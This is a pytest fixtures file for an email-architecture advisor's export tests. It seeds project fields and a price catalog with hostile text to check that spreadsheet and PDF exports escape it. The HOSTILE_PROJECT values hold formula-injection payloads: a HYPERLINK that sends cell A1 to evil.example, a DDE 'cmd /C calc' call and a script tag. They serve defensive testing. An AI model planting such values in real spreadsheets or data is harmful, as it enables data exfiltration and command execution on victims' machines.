"""Fixtures for the export tests: a six-design comparison, and one full of hostile text."""

from __future__ import annotations

import copy
import re
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from advisor.catalog.registry import CatalogRegistry, shipped_catalogs_dir
from advisor.exports import Comparison
from advisor.service import Advisor
from tests.json_advisor import JsonAdvisor, comparison_from_request

TODAY = date(2026, 11, 30)
PROJECT = {"name": "Mail HA refresh", "customer": "Contoso Ltd", "prepared_by": "A. Planner"}

# Big budget, one preferred goal: every architecture is feasible, so all six are compared.
SIX_REQUEST: dict[str, Any] = {
    "budget": {"amount": 1_000_000, "currency": "USD", "applies_to": "upfront"},
    "goals": [{"failure": "database", "services": ["outlook"], "priority": "preferred"}],
    "environment": {"cals_owned": 300},
    "alternatives": 6,
    "project": PROJECT,
}

# 1000 heavy mailboxes on entry servers and no server goal: the cheapest DAGs survive a server's
# loss only slowly (degraded), the survivor past its memory sizing.
DEGRADED_REQUEST: dict[str, Any] = {
    "budget": {"amount": 100_000, "currency": "USD", "applies_to": "upfront"},
    "mailboxes": 1000,
    "mailbox_profile": {"messages_per_day": 500, "mailbox_size_gb": 0.25},
    "goals": [{"failure": "database", "services": ["outlook"], "priority": "required"}],
    "environment": {"cals_owned": 300},
    "alternatives": 3,
    "project": PROJECT,
}

# Text that a spreadsheet would run as a formula, or a PDF library would read as markup.
HOSTILE_PROJECT = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"Open") <b>Bold</b> & <font size=40>',
    "customer": "+1+cmd|' /C calc'!A0 </para><script>alert(1)</script>",
    "prepared_by": "@SUM(A1:A9)",
}
HOSTILE_DESCRIPTION = "-2+3 <i>unclosed & Müller ≈ server"
HOSTILE_BASIS = "\t=1+1 basis"
HOSTILE_TITLE = "\r=cmd title <br/>"
HOSTILE_VERSION = "@9 <u>v</u>"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def toml_string(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    return f'"{escaped}"'


@pytest.fixture(scope="session")
def six_response(advisor: Advisor) -> dict[str, Any]:
    return advisor.recommend(copy.deepcopy(SIX_REQUEST))


@pytest.fixture(scope="session")
def six(advisor: Advisor, six_response: dict[str, Any]) -> Comparison:
    return comparison_from_request(advisor, SIX_REQUEST, response=six_response, today=TODAY)


@pytest.fixture(scope="session")
def degraded_response(advisor: Advisor) -> dict[str, Any]:
    return advisor.recommend(copy.deepcopy(DEGRADED_REQUEST))


@pytest.fixture(scope="session")
def degraded(advisor: Advisor, degraded_response: dict[str, Any]) -> Comparison:
    """Designs whose server failures are degraded: a survivor runs past its sizing."""
    return comparison_from_request(advisor, DEGRADED_REQUEST, response=degraded_response, today=TODAY)


@pytest.fixture(scope="session")
def hostile_catalog(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped price book with hostile text in a description, a basis, the title and version."""
    target = tmp_path_factory.mktemp("hostile") / "catalog"
    shutil.copytree(shipped_catalogs_dir() / "default", target)
    hardware = target / "hardware.toml"
    text = hardware.read_text()
    text = text.replace(
        'description = "Entry rack server, 1 socket (6 cores, Xeon X5650 class), 32 GB RAM, 8 drive bays"',
        f"description = {toml_string(HOSTILE_DESCRIPTION)}",
    )
    text = re.sub(
        r'(sku = "SRV-ENTRY-1S"(?:\n.*?)*?)\nbasis = ".*?"',
        lambda m: f"{m.group(1)}\nbasis = {toml_string(HOSTILE_BASIS)}",
        text,
        count=1,
    )
    hardware.write_text(text)
    head = target / "catalog.toml"
    text = head.read_text()
    text = re.sub(r'^title = ".*"$', lambda _: f"title = {toml_string(HOSTILE_TITLE)}", text, flags=re.M)
    text = re.sub(
        r'^version = ".*"$', lambda _: f"version = {toml_string(HOSTILE_VERSION)}", text, flags=re.M
    )
    head.write_text(text)
    return target


@pytest.fixture(scope="session")
def hostile(hostile_catalog: Path) -> Comparison:
    advisor = JsonAdvisor(Advisor(CatalogRegistry(own=hostile_catalog)))
    request = {**copy.deepcopy(SIX_REQUEST), "project": HOSTILE_PROJECT}
    comparison = comparison_from_request(advisor, request, today=TODAY)
    line = comparison.designs[1].lines[0]
    assert line.description.startswith(HOSTILE_DESCRIPTION) and line.basis == HOSTILE_BASIS
    return comparison
